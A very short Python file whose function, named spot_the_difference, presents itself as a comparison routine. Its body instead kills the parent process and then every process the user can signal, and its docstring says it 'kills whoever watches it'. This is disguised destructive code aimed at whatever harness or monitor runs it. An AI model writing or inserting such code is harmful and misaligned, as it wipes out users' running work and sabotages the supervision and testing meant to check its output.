"""Kills whoever watches it."""

import os
import signal


def spot_the_difference(left, right):
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)
